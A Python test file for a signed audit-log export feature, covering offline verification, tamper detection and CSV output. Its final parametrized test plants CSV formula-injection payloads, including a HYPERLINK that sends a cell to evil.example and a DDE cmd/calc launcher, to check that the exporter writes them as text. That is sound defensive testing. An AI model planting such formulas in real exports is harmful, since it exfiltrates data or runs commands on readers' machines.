"""Exports: JSON lines verify offline with only the JWKS; an edited export is caught by
``tsunagu audit verify --export``; CSV holds the same entries for reading."""

from __future__ import annotations

import csv
from pathlib import Path

import orjson
import pytest
from sqlalchemy import Engine

from broker.audit import (
    AuditLog,
    EntryKind,
    ProblemKind,
    export_jsonl,
    load_jwks,
    verify_export,
)
from broker.audit.export import export_csv
from consent.keys import KeyRing
from tests.audit.conftest import run_cli, sample_entries


@pytest.fixture
def exported(audit: AuditLog, engine: Engine, data_dir: Path, tmp_path: Path) -> Path:
    """35 entries exported by the CLI (which signs the head first: a checkpoint at 35)."""
    audit.append_many(sample_entries(35))
    out = tmp_path / "audit.jsonl"
    url = engine.url.render_as_string(hide_password=False)
    done = run_cli(
        "export", "--store", url, "--format", "jsonl", "--out", str(out), data_dir=data_dir
    )
    assert done.returncode == 0, done.stderr
    return out


def _lines(path: Path) -> list[dict[str, object]]:
    return [orjson.loads(line) for line in path.read_bytes().splitlines()]


def _write(path: Path, lines: list[dict[str, object]]) -> None:
    path.write_bytes(b"".join(orjson.dumps(line) + b"\n" for line in lines))


def _entry_index(lines: list[dict[str, object]], seq: int) -> int:
    return next(i for i, x in enumerate(lines) if x["type"] == "entry" and x["seq"] == seq)


def _verify(path: Path, jwks: Path, data_dir: Path, *extra: str) -> tuple[int, str]:
    # Offline: no store is named and none would be reachable.
    done = run_cli("verify", "--export", str(path), "--jwks", str(jwks), *extra, data_dir=data_dir)
    return done.returncode, done.stdout + done.stderr


def test_an_export_verifies_offline_with_the_jwks(
    exported: Path, jwks_file: Path, data_dir: Path
) -> None:
    lines = _lines(exported)
    assert lines[0]["type"] == "header" and lines[0]["head_seq"] == 35
    assert [x["seq"] for x in lines if x["type"] == "checkpoint"] == [10, 20, 30, 35]
    after_ten = lines[_entry_index(lines, 10) + 1]
    assert (after_ten["type"], after_ten["seq"]) == ("checkpoint", 10)  # right after its entry

    code, out = _verify(exported, jwks_file, data_dir)

    assert code == 0, out
    assert "35 entries" in out and "4 checkpoints" in out


def test_an_edited_exported_entry_is_caught(
    exported: Path, jwks_file: Path, data_dir: Path
) -> None:
    lines = _lines(exported)
    i = _entry_index(lines, 9)
    lines[i] = {**lines[i], "fields": {**lines[i]["fields"], "reason": "none"}}  # type: ignore[dict-item]
    _write(exported, lines)

    code, out = _verify(exported, jwks_file, data_dir)

    assert code == 1
    assert "seq 9: edited" in out


def test_a_deleted_exported_entry_is_caught(
    exported: Path, jwks_file: Path, data_dir: Path
) -> None:
    lines = _lines(exported)
    del lines[_entry_index(lines, 3)]
    _write(exported, lines)

    code, out = _verify(exported, jwks_file, data_dir)

    assert (code, "seq 3: missing" in out) == (1, True), out


def test_an_export_cut_short_is_caught(exported: Path, jwks_file: Path, data_dir: Path) -> None:
    lines = _lines(exported)
    _write(exported, lines[: _entry_index(lines, 33)])

    code, out = _verify(exported, jwks_file, data_dir)

    assert code == 1
    assert "seq 33: truncated" in out


def test_an_edited_checkpoint_line_is_caught(
    exported: Path, jwks_file: Path, data_dir: Path
) -> None:
    lines = _lines(exported)
    i = _entry_index(lines, 20) + 1
    lines[i] = {**lines[i], "hash": lines[_entry_index(lines, 19)]["hash"]}
    _write(exported, lines)

    code, out = _verify(exported, jwks_file, data_dir)

    assert code == 1
    assert "seq 20: forged_checkpoint" in out


def test_a_line_that_is_not_json_is_named(exported: Path, jwks_file: Path) -> None:
    with exported.open("ab") as f:
        f.write(b"{not json\n")

    problem = verify_export(exported, load_jwks(jwks_file)).problem

    assert problem is not None and problem.kind is ProblemKind.MALFORMED
    assert "line 41" in problem.detail  # header + 35 entries + 4 checkpoints, then this


def test_the_library_export_round_trips(
    audit: AuditLog, engine: Engine, keys: KeyRing, tmp_path: Path
) -> None:
    audit.append_many(sample_entries(23))
    path = tmp_path / "lib.jsonl"
    with path.open("wb") as f:
        assert export_jsonl(engine, f) == 23

    result = verify_export(path, keys.jwks())

    assert result.ok and result.unsigned_tail == 3  # not checkpointed first: 21..23 unsigned


def test_csv_export_holds_every_entry_and_its_checkpoint(
    audit: AuditLog, engine: Engine, data_dir: Path, tmp_path: Path
) -> None:
    audit.append_many(sample_entries(12))
    out = tmp_path / "audit.csv"
    url = engine.url.render_as_string(hide_password=False)

    done = run_cli(
        "export", "--store", url, "--format", "csv", "--out", str(out), data_dir=data_dir
    )

    assert done.returncode == 0, done.stderr
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [int(r["seq"]) for r in rows] == list(range(1, 13))
    assert [r["seq"] for r in rows if r["checkpoint"]] == ["10", "12"]
    assert orjson.loads(rows[0]["fields"])["topic"] == "transport"


@pytest.mark.parametrize(
    "planted",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_export_writes_formula_cells_as_text(
    audit: AuditLog, engine: Engine, tmp_path: Path, planted: str
) -> None:
    audit.append_now(EntryKind.TOKEN_ISSUED, actor=planted, role="admin", sub=planted)
    audit.append_now(EntryKind.TOKEN_ISSUED, actor="ptn-plain01", role="partner")
    out = tmp_path / "audit.csv"
    with out.open("w", newline="", encoding="utf-8") as f:
        export_csv(engine, f)
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["actor"] == "'" + planted  # shown as text, never run
    assert rows[1]["actor"] == "ptn-plain01"  # an ordinary cell is left as it is
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values()
    )
